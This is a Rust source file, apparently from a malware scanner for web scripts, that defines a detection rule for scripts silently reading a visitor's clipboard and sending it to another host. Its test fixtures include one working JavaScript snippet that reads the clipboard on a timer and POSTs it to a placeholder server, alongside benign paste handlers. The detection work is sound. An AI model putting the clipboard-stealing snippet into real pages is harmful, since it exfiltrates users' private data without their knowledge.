//! `clipboard-sent`.

use crate::facts::Atom;
use crate::signals::answered::is_answer_judged;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::taint::{Mark, Sink};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "clipboard-sent",
    description: "The script reads the visitor's clipboard and sends it to another host.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::ClipboardRead]), one(&[Atom::ClipboardSent])],
    within: 300,
    only_if: Some(is_unasked),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "setInterval(async()=>{const t=await navigator.clipboard.readText();fetch('https://c.example/p',{method:'POST',body:t})},3000)",
        ],
        without: &[
            "b.onclick=async()=>{f.value=await navigator.clipboard.readText()}",
            r#"b.onclick=async()=>{const t=await navigator.clipboard.readText();f.value=t;out.textContent=await (await fetch('https://api.words.example/t?q='+encodeURIComponent(t))).text()}"#,
            "editor.addEventListener('paste',e=>{const t=e.clipboardData.getData('text');fetch('https://cards.example/of?url='+encodeURIComponent(t)).then(r=>r.json()).then(show)})",
            "document.addEventListener('paste',async e=>{for(const f of e.clipboardData.files){const d=new FormData();d.append('f',f);const r=await fetch('https://pictures.example/up',{method:'POST',body:d});insert((await r.json()).url)}})",
            "area.addEventListener('paste',e=>{const i=e.clipboardData.items[0];if(i.type.indexOf('image')==0){const d=new FormData();d.append('i',i.getAsFile());fetch('https://pictures.example/up',{method:'POST',body:d}).then(r=>r.text()).then(insert)}})",
        ],
    },
};

/// Whether nobody asks for it: a timer, the page, what is copied or pasted anywhere, or any click. Who presses a button to paste does.
fn is_unasked(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 60);
    // Editors upload pictures that are pasted into them; what is stolen is text.
    if !near.has_word(TEXT) || !is_taken(evidence, held) {
        return false;
    }
    near.has_fact(&[Atom::Repeat, Atom::PageClick])
        || near.has(&["paste", "copy", "cut", "focus", "visibilitychange", "onpaste", "oncopy", "onfocus"])
        || near.words(&["readText", "getData", "read"]).any(|at| near.runs_unasked(at))
        || near.has_fact(&[Atom::DropBox])
        || near.has_fact(&[Atom::Camera])
}

/// Whether nobody reads the answer: who pastes rows, a link or a code sees what becomes of it.
fn is_taken(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 0);
    let here = evidence.flows.iter().filter(|flow| (held.first..=held.last).contains(&flow.at));
    let mut sent = here.filter(|flow| flow.sink.leaves() && flow.marks.has(Mark::Clipboard)).peekable();
    sent.peek().is_none()
        || sent.any(|flow| flow.sink != Sink::Request || !is_answer_judged(near, flow.at as usize))
}

/// How text is read out of a clipboard.
const TEXT: &[&str] = &["readText", "getData", "getAsString", "read"];
